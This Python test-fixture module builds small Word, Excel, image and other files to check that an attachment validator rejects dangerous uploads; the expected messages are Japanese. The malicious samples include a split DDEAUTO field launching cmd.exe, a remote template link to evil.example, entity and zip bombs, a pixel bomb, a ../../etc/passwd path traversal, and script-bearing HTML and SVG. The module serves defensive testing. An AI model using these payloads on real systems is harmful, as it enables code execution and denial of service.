"""Small Word and Excel files and pictures, in order and not, for the tests of 添付・補足書類."""

import io
import zipfile

from PIL import Image

MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
}
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
LINK = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'


def office(kind="docx", body="<document/>", main_type=None, parts=(), types="", end=b""):
    """A file of this kind; `parts` are more names and contents."""
    part, word = MAIN[kind]
    main_type = main_type or f"application/vnd.openxmlformats-officedocument.{word}.main+xml"
    listed = f'<Types><Override PartName="/{part}" ContentType="{main_type}"/>{types}</Types>'
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", listed)
        archive.writestr(part, body)
        for name, content in parts:
            archive.writestr(name, content)
    return made.getvalue() + end


def picture(form="PNG", size=(40, 20), mode="RGB", **more):
    made = io.BytesIO()
    Image.new(mode, size, 1).save(made, form, **more)
    return made.getvalue()


def photo():
    """A photograph lying on its side, which tells where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it by 90 degrees
    exif.get_ifd(0x8825)[1] = "N"
    exif[0x010E] = "secret place"
    return picture("JPEG", (40, 20), exif=exif)


FIELD = '<w:document xmlns:w="w"><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r></w:document>'
BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><document>&b;</document>'
# what is refused -> the file, and a piece of the sentence
BAD = {
    "empty": (b"", "0バイト"),
    "program": (b"MZ\x90\x00" + b"\0" * 60, "添付できない形式"),
    "web page": (b"<html><script>alert(1)</script></html>", "添付できない形式"),
    "picture with script": (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "添付できない形式"),
    "old or locked office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "旧形式"),
    "macros by part": (office(parts=[("word/vbaProject.bin", b"x")]), "マクロ"),
    "macros by type": (office(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "マクロ"),
    "field that starts a program": (office(body=FIELD), "マクロ"),
    "embedded file": (office("xlsx", parts=[("xl/embeddings/oleObject1.bin", b"x")]), "埋め込まれ"),
    "template from outside": (office(parts=[("word/_rels/settings.xml.rels", RELS.format(LINK.format("attachedTemplate", "https://evil.example/x.dotm")))]), "参照して"),
    "linked workbook": (office("xlsx", parts=[("xl/externalLinks/externalLink1.xml", "<x/>")]), "参照して"),
    "entity bomb": (office(body=BILLION), "壊れて"),
    "bytes behind the end": (office(end=b"MZ something else"), "壊れて"),
    "path out of the folder": (office(parts=[("../../etc/passwd", "x")]), "壊れて"),
    "presentation": (office(main_type="application/x-other"), "以外の形式"),
    "slices of a zip": (office()[:200], "壊れて"),
    "cut picture": (picture("JPEG", (400, 400))[:300], "壊れて"),
    "zip bomb": (office(parts=[("word/media/a.xml", b"\0" * (260 * 1024 * 1024))]), "複雑すぎる"),
    "pixel bomb": (picture("PNG", (30_000, 2_000), "1"), "4,000万画素"),
    "damaged pdf": (b"%PDF-1.7\nnothing", "壊れて"),
}


def plain_zip():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("a.txt", "x")
    return made.getvalue()


BAD["zip"] = (plain_zip(), "圧縮（ZIP）")
